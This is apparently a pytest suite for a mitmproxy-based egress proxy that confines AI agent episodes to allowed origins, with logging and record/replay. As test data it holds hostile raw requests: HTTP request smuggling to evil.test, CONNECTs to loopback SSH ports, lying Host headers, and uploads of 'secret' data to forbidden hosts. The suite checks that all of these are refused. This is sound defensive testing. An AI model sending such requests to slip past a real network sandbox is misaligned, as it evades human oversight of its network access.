"""The recording proxy, for real (mitmproxy in its own venv, in the tests' cache), with loopback
web servers playing the internet under names the runner maps, and a hostile client playing the
guest: it may reach allowed origins over HTTP and HTTPS and nothing else, and replay answers from
the cassette alone."""

from __future__ import annotations

import datetime
import json
import os
import signal
import socket
import ssl
import time
import urllib.request

import pytest
from loopback_http import LoopbackHTTP, LoopbackHTTPS, QuietHandler, leaf_for

from runner.choices import NetMode
from runner.network.proxy import EpisodeProxy, ProxyConfig, make_run_ca, proxy_env
from runner.network.proxy_log import MAX_FIELD
from runner.runs.episode_network import EpisodeNetwork
from runner.sockets import free_port

HUGE = 20 * 2**20  # past the proxy's body limit (16 MiB)


class Site(QuietHandler):
    """The stand-in internet: /hello, /counter (another answer each time), /huge, and an echo of POSTs."""

    hits = 0
    posted = 0

    def do_GET(self):  # noqa: N802 - http.server's name
        Site.hits += 1
        if self.path == "/huge":
            self.send_response(200)
            self.send_header("Content-Length", str(HUGE))
            self.end_headers()
            chunk = b"x" * 2**20
            try:
                for _ in range(HUGE // len(chunk)):
                    self.wfile.write(chunk)
            except OSError:
                pass
            return
        body = f"answer {Site.hits}" if self.path == "/counter" else f"hello from {self.headers['Host']}"
        self.reply(body.encode(), "text/plain")

    def do_POST(self):  # noqa: N802 - http.server's name
        Site.posted += 1
        length = int(self.headers.get("Content-Length", 0))
        self.reply(b"got %d bytes" % len(self.rfile.read(length)))


@pytest.fixture(scope="module")
def internet(tmp_path_factory):
    """An HTTP site (plain.test) and an HTTPS site (example.test) on loopback, its CA apart from the run's."""
    folder = tmp_path_factory.mktemp("internet")
    make_run_ca(folder / "ca", "stand-in internet CA")
    cert, key = leaf_for(folder / "ca" / "mitmproxy-ca.pem", ("example.test",), folder)
    with LoopbackHTTP(Site) as plain, LoopbackHTTPS(Site, cert, key) as secure:
        yield {"plain.test": ("127.0.0.1", plain.server.server_address[1]),
               "example.test": ("127.0.0.1", secure.server.server_address[1]),
               "upstream_ca": folder / "ca" / "mitmproxy-ca-cert.pem"}


@pytest.fixture(scope="module")
def mitmdump(settings):
    return proxy_env(settings.cache_dir)


@pytest.fixture(scope="module")
def run_ca(tmp_path_factory):
    folder = tmp_path_factory.mktemp("run-ca")
    make_run_ca(folder)
    return folder


def start(mitmdump, run_ca, folder, internet, mode=NetMode.live, cassette=None, allow=("https://example.test:443",
                                                                                "http://plain.test:80")):
    mapped = {"example.test": internet["example.test"], "plain.test": internet["plain.test"]}
    # The guest asks for example.test:443 and plain.test:80; the runner maps those names to the stand-ins.
    return EpisodeProxy(mitmdump, run_ca, folder, ProxyConfig(allow=allow, mapped=mapped, mode=mode, cassette=cassette,
                                                              upstream_ca=internet["upstream_ca"]))


@pytest.fixture(scope="module")
def proxy(mitmdump, run_ca, internet, tmp_path_factory):
    with start(mitmdump, run_ca, tmp_path_factory.mktemp("episode"), internet) as p:
        yield p


def fetch(proxy, url, run_ca, data=None, headers=None) -> tuple[int, bytes]:
    context = ssl.create_default_context(cafile=str(run_ca / "mitmproxy-ca-cert.pem"))
    proxies = {"http": f"http://127.0.0.1:{proxy.port}", "https": f"http://127.0.0.1:{proxy.port}"}
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=context))
    try:
        with opener.open(urllib.request.Request(url, data=data, headers=headers or {}), timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def raw(proxy, request: bytes) -> bytes:
    """REQUEST sent to the proxy as bytes, as a hostile guest may: the first 64 KiB of the answer."""
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
        s.sendall(request)
        answer = b""
        try:
            while len(answer) < 65536 and (chunk := s.recv(65536)):
                answer += chunk
                s.settimeout(1)  # the answer has begun: what follows comes at once, or the proxy holds it open
        except TimeoutError:
            pass
        return answer


def refusals(proxy) -> list[str]:
    return [e["reason"] for e in proxy.entries() if e["verdict"] == "refused"]


def test_an_allowed_origin_is_reached_over_https_and_http_through_the_run_ca(proxy, run_ca):
    assert fetch(proxy, "https://example.test/hello", run_ca) == (200, b"hello from example.test")
    assert fetch(proxy, "http://plain.test/hello", run_ca) == (200, b"hello from plain.test")
    allowed = [e["url"] for e in proxy.entries() if e["verdict"] == "allowed"]
    assert "https://example.test/hello" in allowed and "http://plain.test/hello" in allowed


def test_a_connect_to_loopback_or_any_address_is_refused(proxy):
    for target in (b"127.0.0.1:22", b"127.1:22", b"[::1]:22", b"2130706433:22", b"10.0.2.2:22"):
        answer = raw(proxy, b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 403"), (target, answer[:200])
        assert b"is an address, not a name" in answer
    assert sum("an address, not a name" in r for r in refusals(proxy)) >= 5


def test_a_connect_to_a_name_outside_the_origins_or_to_the_hosts_ports_is_refused(proxy):
    answer = raw(proxy, b"CONNECT localhost:22 HTTP/1.1\r\nHost: localhost:22\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"outside the allowed origins" in answer
    answer = raw(proxy, b"CONNECT example.test:22 HTTP/1.1\r\nHost: example.test:22\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403"), "an allowed name on another port is another origin"


def test_an_absolute_url_to_loopback_is_refused(proxy):
    port = str(proxy.port).encode()
    answer = raw(proxy, b"GET http://127.0.0.1:" + port + b"/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"an address, not a name" in answer


def test_a_host_header_that_lies_is_refused(proxy, run_ca):
    answer = raw(proxy, b"GET http://plain.test/hello HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"Host header" in answer
    # Inside an allowed HTTPS tunnel too.
    status, body = fetch(proxy, "https://example.test/hello", run_ca, headers={"Host": "internal.test"})
    assert status == 403 and b"the Host header names 'internal.test'" in body


def test_a_name_that_resolves_to_loopback_is_refused_where_it_leads(mitmdump, run_ca, internet, tmp_path):
    """localhost is a name, allowed here by its origin; where it leads is loopback, so no connection."""
    with start(mitmdump, run_ca, tmp_path, internet, allow=("http://localhost:80",)) as p:
        answer = raw(p, b"GET http://localhost/ HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 502"), answer[:200]
        assert any("resolves to 127.0.0.1" in r or "resolves to ::1" in r for r in refusals(p)), p.entries()
        (entry,) = p.entries()  # one line for the request, with its URL, and no error line beside it
        assert (entry["verdict"], entry["stage"], entry["url"]) == ("refused", "address", "http://localhost/")


def test_a_huge_request_or_response_is_refused_not_buffered(proxy, run_ca):
    posted = Site.posted
    head = b"POST http://plain.test/upload HTTP/1.1\r\nHost: plain.test\r\nContent-Length: %d\r\n\r\n" % HUGE
    try:
        answer = raw(proxy, head + b"y" * HUGE)
    except ConnectionError:
        # The proxy answered 413 and closed while the upload went on: the write that finds it
        # closed is refused with a reset or a broken pipe, as the timing falls.
        answer = b""
    assert answer == b"" or answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert Site.posted == posted, "the huge request reached the site"
    assert fetch(proxy, "http://plain.test/upload", run_ca, data=b"small")[0] == 200
    status, _body = fetch(proxy, "http://plain.test/huge", run_ca)
    assert status == 502


POLICY_SAYS = "outside the allowed origins"
SMUGGLED = b"0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"


class HangsUp(bytes):
    """Bytes the guest sends, then closes the connection without waiting for an answer."""


def new_lines(proxy, before: int, timeout: float = 5.0) -> list[dict]:
    """The lines after the first BEFORE, once there are some: a connection's last line may be
    written as it closes."""
    deadline = time.monotonic() + timeout
    while len(proxy.entries()) == before and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.2)  # and nothing more for the same request
    return proxy.entries()[before:]


@pytest.mark.parametrize("sent, url, reasons", [
    pytest.param(b"POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\n\r\n" % HUGE
                 + b"secret" * 1000, "http://evil.test/upload", ("body_size_limit", POLICY_SAYS),
                 id="an oversized POST to a forbidden host"),
    pytest.param(b"GARBAGE /\x00 HTTP/9\r\n\r\n", "", ("Bad HTTP request line",), id="a malformed request"),
    pytest.param(b"POST http://plain.test/upload HTTP/1.1\r\nHost: plain.test\r\nContent-Length: %d\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n" % len(SMUGGLED) + SMUGGLED, "http://plain.test/upload",
                 ("transfer-encoding and content-length",), id="smuggling, to an allowed site"),
    pytest.param(b"CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nContent-Length: 1\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n", "evil.test:22", ("transfer-encoding", POLICY_SAYS),
                 id="a CONNECT to a forbidden host and port, smuggling"),
    pytest.param(b"CONNECT evil.test:99999 HTTP/1.1\r\nHost: evil.test:99999\r\n\r\n", "",
                 ("CONNECT evil.test:99999",), id="a CONNECT to a port that is none"),
    pytest.param(HangsUp(b"GET http://evil.test/?q=secret HTTP/1.1\r\nHost: ev"), "", ("before completing request headers",),
                 id="a head that never ends"),
    pytest.param(b"GET /?q=secret HTTP/1.1\r\n\r\n", "", ("made no request", "q=secret"), id="a request naming no host"),
    pytest.param(b"POST http://plain.test/upload HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                 b"zz\r\n", "http://plain.test/upload", ("illegal chunk header",), id="a body that is not chunked"),
    pytest.param(b"CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test:80\r\n\r\nSSH-2.0-OpenSSH_9.6\r\n", "plain.test:80",
                 ("b'SSH-2.0-OpenSSH_9.6",), id="raw TCP in an allowed tunnel"),
])
def test_what_the_proxy_refuses_before_its_rules_is_logged_as_the_agents(proxy, sent, url, reasons):
    """mitmproxy itself refuses these before the rules see a request (413, 400, or no answer):
    each is a `refused` line all the same, stage `read`, and so a violation in the agent's time."""
    posted, before, since = Site.posted, len(proxy.entries()), time.monotonic()
    try:
        if isinstance(sent, HangsUp):
            with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
                s.sendall(sent)
            answer = b""
        else:
            answer = raw(proxy, sent)
    except ConnectionError:  # refused while the upload went on: a reset or a broken pipe
        answer = b""
    assert answer == b"" or answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 200 Connection established")), answer[:200]
    (line,) = new_lines(proxy, before)
    assert (line["verdict"], line.get("stage"), line["url"]) == ("refused", "read", url), line
    assert all(r in line["reason"] for r in reasons), line
    assert Site.posted == posted, "it reached the site"
    (violation,) = EpisodeNetwork(proxy).violations(since, time.monotonic())
    assert violation.rule == "network" and violation.detail.startswith(f"refused as sent: {url or '(no URL)'} (")
    assert EpisodeNetwork(proxy).violations(time.monotonic(), float("inf")) == [], "outside the window, no violation"


def test_a_body_the_guest_cuts_off_is_the_agents_only_to_a_host_not_allowed(proxy):
    """An upload cancelled, or its process stopped at the end of the agent's time, is counted; only
    one to a host the rules refuse is a violation."""
    since = time.monotonic()
    for host in (b"plain.test", b"evil.test"):
        before = len(proxy.entries())
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
            s.sendall(b"POST http://" + host + b"/upload HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 100\r\n\r\n"
                      + b"x" * 10)
        (line,) = new_lines(proxy, before)
        assert (line["stage"], line["url"]) == ("read", f"http://{host.decode()}/upload") and "peer closed" in line["reason"]
        assert line["verdict"] == ("error" if host == b"plain.test" else "refused"), line
    (violation,) = EpisodeNetwork(proxy).violations(since, time.monotonic())
    assert violation.detail.startswith("refused as sent: http://evil.test/upload (")


def test_an_allowed_site_that_is_down_is_counted_and_is_not_the_agents(mitmdump, run_ca, tmp_path):
    with EpisodeProxy(mitmdump, run_ca, tmp_path, ProxyConfig(
            allow=("http://down.test", "http://nowhere.invalid"), mapped={"down.test": ("127.0.0.1", free_port())})) as p:
        since = time.monotonic()
        for name in (b"down.test", b"nowhere.invalid"):  # nothing listens; the name does not resolve
            answer = raw(p, b"GET http://" + name + b"/page HTTP/1.1\r\nHost: " + name + b"\r\n\r\n")
            assert answer.startswith(b"HTTP/1.1 502"), answer[:200]
        lines = new_lines(p, 0)
        assert [(e["verdict"], e["stage"], e["url"]) for e in lines] == [
            ("error", "upstream", "http://down.test/page"), ("error", "upstream", "http://nowhere.invalid/page")], lines
        assert "does not resolve" in lines[1]["reason"]
        assert EpisodeNetwork(p).violations(since, time.monotonic()) == []


def test_a_tls_handshake_the_client_gives_up_is_the_agents_only_for_a_name_outside(proxy, run_ca):
    """Inside a tunnel to an allowed origin, a client that does not trust the proxy's certificate
    gives up: for an allowed name that is no violation (nothing was asked), for another it is."""
    since = time.monotonic()
    for name in ("evil.test", "example.test"):
        before = len(proxy.entries())
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
            s.sendall(b"CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n")
            assert s.recv(4096).startswith(b"HTTP/1.1 200")
            with pytest.raises(ssl.SSLCertVerificationError):
                ssl.create_default_context().wrap_socket(s, server_hostname=name)  # not the run's CA
        (line,) = new_lines(proxy, before)
        assert (line["stage"], line["url"]) == ("tls", f"{name}:443") and "does not trust" in line["reason"], line
        assert line["verdict"] == ("refused" if name == "evil.test" else "error"), line
    (violation,) = EpisodeNetwork(proxy).violations(since, time.monotonic())
    assert violation.detail.startswith("outside the allowed origins: evil.test:443 (TLS: ")


def test_what_the_guest_writes_is_cut_in_the_log(proxy):
    """A URL of 100 kB and a Host header of 50 kB (in the reason) make a line of a few kB."""
    before = len(proxy.entries())
    sent = b"GET http://plain.test/" + b"u" * 100_000 + b" HTTP/1.1\r\nHost: " + b"h" * 50_000 + b"\r\n\r\n"
    assert raw(proxy, sent).startswith(b"HTTP/1.1 403")
    (line,) = new_lines(proxy, before)
    assert line["url"].startswith("http://hhhh") and line["url"].endswith("[cut from 150008 characters]")  # pretty_url
    assert line["reason"].startswith("the Host header") and "[cut from" in line["reason"]
    assert len(proxy.log.read_text().split("\n")[before]) < 3 * MAX_FIELD


def test_record_then_replay_gives_the_same_bytes_and_never_goes_out(mitmdump, run_ca, internet, tmp_path):
    cassette = tmp_path / "cassette.jsonl"
    with start(mitmdump, run_ca, tmp_path / "record", internet, mode=NetMode.record, cassette=cassette) as p:
        recorded = fetch(p, "https://example.test/counter", run_ca)
        assert recorded[0] == 200
    hits = Site.hits
    for attempt in ("first", "second"):
        with start(mitmdump, run_ca, tmp_path / attempt, internet, mode=NetMode.replay, cassette=cassette) as p:
            assert fetch(p, "https://example.test/counter", run_ca) == recorded
            status, body = fetch(p, "https://example.test/not-recorded", run_ca)
            assert status == 404 and b"not in the cassette" in body
            assert [e["verdict"] for e in p.entries()] == ["replayed", "missed"]
    assert Site.hits == hits, "a replay reached the stand-in internet"
    assert all(json.loads(line)["key"].startswith("GET https://example.test/counter ")
               for line in cassette.read_text().splitlines())


def test_at_a_frozen_clock_the_proxys_certificates_are_dated_from_the_instant(mitmdump, run_ca, internet, tmp_path):
    """A guest set back to 2026-01-15 must find the certificate the proxy makes for a name already
    valid: mitmproxy dates it from now, so the proxy runs at the task's instant."""
    frozen = datetime.datetime(2026, 1, 15, 10, tzinfo=datetime.UTC)
    proxy = EpisodeProxy(mitmdump, run_ca, tmp_path, ProxyConfig(
        allow=("https://example.test:443",), mapped={"example.test": internet["example.test"]},
        upstream_ca=internet["upstream_ca"], clock=frozen))
    with proxy, socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
        s.sendall(b"CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n")
        assert s.recv(4096).startswith(b"HTTP/1.1 200")
        context = ssl.create_default_context(cafile=str(run_ca / "mitmproxy-ca-cert.pem"))
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # the dates are what is read here
        with context.wrap_socket(s, server_hostname="example.test") as tls:
            from cryptography import x509

            cert = x509.load_der_x509_certificate(tls.getpeercert(binary_form=True))
    assert cert.not_valid_before_utc <= frozen < cert.not_valid_after_utc, (cert.not_valid_before_utc, frozen)
    # Its log's wall time is the task's; its monotonic time, which the agent's window is judged by,
    # is the host's own.
    before = time.monotonic()
    with EpisodeProxy(mitmdump, run_ca, tmp_path / "again", ProxyConfig(clock=frozen)) as p:
        assert raw(p, b"GET http://nowhere.test/ HTTP/1.1\r\nHost: nowhere.test\r\n\r\n").startswith(b"HTTP/1.1 403")
        (entry,) = p.entries()
    assert entry["t"] < frozen.timestamp() + 3600 and before <= entry["mono"] <= time.monotonic()


def test_a_plain_service_is_reached_over_https_with_the_proxys_certificate(mitmdump, run_ca, internet, tmp_path):
    """A task's folder service speaks plain HTTP; the guest may still ask for https://NAME, and the
    recording keeps the URL the guest asked for."""
    cassette = tmp_path / "cassette.jsonl"
    with EpisodeProxy(mitmdump, run_ca, tmp_path / "record", ProxyConfig(
            allow=("https://plain.test",), mapped={"plain.test": internet["plain.test"]}, plain=("plain.test",),
            mode=NetMode.record, cassette=cassette)) as p:
        assert fetch(p, "https://plain.test/hello", run_ca) == (200, b"hello from plain.test")
        assert [e["url"] for e in p.entries()] == ["https://plain.test/hello"]
    assert json.loads(cassette.read_text())["key"].startswith("GET https://plain.test/hello ")


def test_a_name_the_guests_apps_ask_for_unbidden_is_refused_and_logged_apart(mitmdump, run_ca, internet, tmp_path):
    """A browser's own account check is refused like any request outside the origins, and logged
    as background, which is no violation; any other name stays the agent's (its CONNECT let
    through to read the page it asks for: here it asks none, and the CONNECT is the line)."""
    with EpisodeProxy(mitmdump, run_ca, tmp_path / "p", ProxyConfig(
            allow=("https://example.test",), mapped={"example.test": internet["example.test"]},
            background=("accounts.quiet.test",))) as p:
        answer = raw(p, b"CONNECT accounts.quiet.test:443 HTTP/1.1\r\nHost: accounts.quiet.test:443\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 403"), answer[:200]
        answer = raw(p, b"CONNECT www.quiet.test:443 HTTP/1.1\r\nHost: www.quiet.test:443\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
        assert wait_for(lambda: len(p.entries()) == 2)
        verdicts = {e["url"]: e["verdict"] for e in p.entries()}
    assert verdicts == {"accounts.quiet.test:443": "background", "www.quiet.test:443": "refused"}


def wait_for(condition, timeout: float = 10.0) -> bool:
    """Whether CONDITION held within TIMEOUT: a line the proxy writes when a connection ends."""
    deadline = time.monotonic() + timeout
    while not condition() and time.monotonic() < deadline:
        time.sleep(0.05)
    return condition()


def tunnel(proxy, target: bytes, run_ca, server_hostname: str) -> ssl.SSLSocket:
    """A CONNECT to TARGET, then TLS inside it as a client that trusts the run's CA."""
    s = socket.create_connection(("127.0.0.1", proxy.port), timeout=30)
    s.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    context = ssl.create_default_context(cafile=str(run_ca / "mitmproxy-ca-cert.pem"))
    return context.wrap_socket(s, server_hostname=server_hostname)


def ask_in(tls: ssl.SSLSocket, request: bytes) -> bytes:
    tls.sendall(request)
    answer = b""
    while chunk := tls.recv(65536):
        answer += chunk
    return answer


def test_a_refused_https_request_names_its_page_and_never_reaches_the_site(mitmdump, run_ca, internet, tmp_path):
    """The CONNECT to a name outside the origins is let through, never connected: the request in
    it is refused with its whole URL, whatever Host it claims, and each is a violation naming it."""
    hits = Site.hits
    since = time.monotonic()
    # secret.test leads to the stand-in site, which must see nothing: it is mapped, not allowed.
    with EpisodeProxy(mitmdump, run_ca, tmp_path / "p", ProxyConfig(
            allow=("https://example.test",), mapped={"example.test": internet["example.test"],
                                                    "secret.test": internet["example.test"]},
            upstream_ca=internet["upstream_ca"])) as p:
        with tunnel(p, b"secret.test:443", run_ca, "secret.test") as tls:
            answer = ask_in(tls, b"GET /account/export?all=1 HTTP/1.1\r\nHost: secret.test\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 403") and b"outside the allowed origins" in answer, answer[:300]
        # Inside a refused tunnel an allowed name, in the handshake and the Host header, changes nothing.
        with tunnel(p, b"secret.test:443", run_ca, "example.test") as tls:
            answer = ask_in(tls, b"GET /hello HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 403"), answer[:300]
        lines = p.entries()
        violations = EpisodeNetwork(p).violations(since, time.monotonic())
    assert Site.hits == hits, "the site behind the refused name was reached"
    # Each CONNECT is written as it comes; the request in it names the page, and stands for it.
    assert [(e["verdict"], e["stage"], e["url"]) for e in lines] == [
        ("refused", "connect", "secret.test:443"), ("refused", "request", "https://secret.test/account/export?all=1"),
        ("refused", "connect", "secret.test:443"), ("refused", "request", "https://secret.test/hello")], lines
    assert lines[0]["tunnel"] == lines[1]["tunnel"] != lines[2]["tunnel"] == lines[3]["tunnel"]
    assert [v.detail.split(" (")[0] for v in violations] == [
        "outside the allowed origins: https://secret.test/account/export?all=1",
        "outside the allowed origins: https://secret.test/hello"]


def test_a_refused_tunnel_the_guest_asks_nothing_in_or_does_not_trust_is_still_one_violation(
        mitmdump, run_ca, internet, tmp_path):
    since = time.monotonic()
    with EpisodeProxy(mitmdump, run_ca, tmp_path / "p", ProxyConfig(allow=("https://example.test",))) as p:
        raw(p, b"CONNECT quiet.test:443 HTTP/1.1\r\nHost: quiet.test:443\r\n\r\n")  # and goes
        with socket.create_connection(("127.0.0.1", p.port), timeout=30) as s:
            s.sendall(b"CONNECT wary.test:443 HTTP/1.1\r\nHost: wary.test:443\r\n\r\n")
            assert s.recv(4096).startswith(b"HTTP/1.1 200")
            with pytest.raises(ssl.SSLCertVerificationError):
                ssl.create_default_context().wrap_socket(s, server_hostname="wary.test")  # not the run's CA
        assert wait_for(lambda: len(p.entries()) == 3)
        lines = p.entries()
        violations = EpisodeNetwork(p).violations(since, time.monotonic())
    assert [(e["verdict"], e["stage"], e["url"]) for e in lines] == [
        ("refused", "connect", "quiet.test:443"), ("refused", "connect", "wary.test:443"),
        ("refused", "tls", "wary.test:443")], lines
    assert [v.detail.split(" (")[0] for v in violations] == [
        "outside the allowed origins: quiet.test:443", "outside the allowed origins: wary.test:443"]


def whole_answer(s: socket.socket) -> bytes:
    """One answer read whole from S, its head then its Content-Length's bytes, the connection kept."""
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += s.recv(65536)
    head, _, body = answer.partition(b"\r\n\r\n")
    length = int(next(line.split(b":")[1] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")))
    while len(body) < length:
        body += s.recv(65536)
    return head + b"\r\n\r\n" + body


def test_nothing_said_on_a_refused_tunnels_connection_hides_its_violation_or_names_another_host(
        mitmdump, run_ca, internet, tmp_path):
    """Three ways a reviewer tried: a background request first on the same connection, a
    background name given in the TLS handshake, and a request mitmproxy refuses itself (413)
    claiming an allowed Host. Each leaves the refused tunnel's violation, under its own name."""
    since = time.monotonic()
    with EpisodeProxy(mitmdump, run_ca, tmp_path / "p", ProxyConfig(
            allow=("https://example.test",), mapped={"example.test": internet["example.test"]},
            background=("accounts.quiet.test",))) as p:
        with socket.create_connection(("127.0.0.1", p.port), timeout=30) as s:
            s.sendall(b"GET http://accounts.quiet.test/ HTTP/1.1\r\nHost: accounts.quiet.test\r\n\r\n")
            assert whole_answer(s).startswith(b"HTTP/1.1 403")
            s.sendall(b"CONNECT one.test:443 HTTP/1.1\r\nHost: one.test:443\r\n\r\n")
            assert s.recv(4096).startswith(b"HTTP/1.1 200")
        with socket.create_connection(("127.0.0.1", p.port), timeout=30) as s:
            s.sendall(b"CONNECT two.test:443 HTTP/1.1\r\nHost: two.test:443\r\n\r\n")
            assert s.recv(4096).startswith(b"HTTP/1.1 200")
            with pytest.raises(ssl.SSLError):
                ssl.create_default_context().wrap_socket(s, server_hostname="accounts.quiet.test")
        with tunnel(p, b"three.test:443", run_ca, "three.test") as tls:
            answer = ask_in(tls, b"POST /x HTTP/1.1\r\nHost: example.test\r\nContent-Length: 20000000\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        assert wait_for(lambda: any(e.get("stage") == "tls" for e in p.entries()))
        assert wait_for(lambda: any(e.get("stage") == "read" for e in p.entries()))
        lines = p.entries()
        violations = EpisodeNetwork(p).violations(since, time.monotonic())
    named = [v.detail.split(" (")[0] for v in violations]
    assert "outside the allowed origins: one.test:443" in named
    assert "outside the allowed origins: two.test:443" in named
    assert any(d.endswith("https://three.test/x") for d in named), named
    assert not any("example.test" in e["url"] or "accounts.quiet.test:443" == e["url"] for e in lines
                   if e.get("tunnel")), lines


def test_a_proxy_that_dies_mid_episode_is_the_hosts_fault_naming_its_log(mitmdump, run_ca, internet, tmp_path):
    from runner.errors import HostFault

    with start(mitmdump, run_ca, tmp_path, internet) as p:
        p.check_alive()  # running: nothing to say
        os.killpg(p._process.pid, signal.SIGKILL)
        p._process.wait(timeout=10)
        with pytest.raises(HostFault, match=f"the episode's proxy exited .*see {tmp_path / 'proxy.log'}"):
            p.check_alive()


def through_tls_at_the_guests_time(proxy, path: str) -> tuple[bytes, object]:
    """GET https://example.test/PATH through PROXY as a guest whose clock is set back would: the
    answer's bytes, and the certificate the proxy showed (read, not checked: this host's clock
    is not the guest's)."""
    from cryptography import x509

    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
        s.sendall(b"CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n")
        assert s.recv(4096).startswith(b"HTTP/1.1 200")
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with context.wrap_socket(s, server_hostname="example.test") as tls:
            cert = x509.load_der_x509_certificate(tls.getpeercert(binary_form=True))
            tls.sendall(f"GET {path} HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n\r\n".encode())
            answer = b""
            while chunk := tls.recv(65536):
                answer += chunk
    return answer, cert


def test_years_back_the_proxy_records_a_site_whose_certificate_is_a_day_old_and_replays_it(
        mitmdump, run_ca, internet, tmp_path):
    """The guest's clock is set years back; the stand-in site's certificate was made a day ago
    (loopback_http.leaf_for). The proxy checks the site at the real time, and dates what it shows
    the guest at the guest's."""
    frozen = datetime.datetime(2021, 3, 1, 9, tzinfo=datetime.UTC)
    cassette = tmp_path / "cassette.jsonl"
    recorded = {}
    for mode in (NetMode.record, NetMode.replay):
        proxy = EpisodeProxy(mitmdump, run_ca, tmp_path / mode, ProxyConfig(
            allow=("https://example.test:443",), mapped={"example.test": internet["example.test"]},
            upstream_ca=internet["upstream_ca"], mode=mode, cassette=cassette, clock=frozen))
        hits = Site.hits
        with proxy:
            answer, cert = through_tls_at_the_guests_time(proxy, "/counter")
            entries = proxy.entries()
        assert answer.split(b" ", 2)[1] == b"200", (answer[:300], entries)
        assert cert.not_valid_before_utc <= frozen < cert.not_valid_after_utc, cert.not_valid_before_utc
        assert [e["verdict"] for e in entries] == (["allowed"] if mode == NetMode.record else ["replayed"])
        assert abs(entries[0]["t"] - frozen.timestamp()) < 3600  # the log's wall time is the guest's
        recorded[mode] = answer.split(b"\r\n\r\n", 1)[1]
        if mode == NetMode.replay:
            assert Site.hits == hits, "the replay reached the site"
    assert recorded[NetMode.record] == recorded[NetMode.replay]
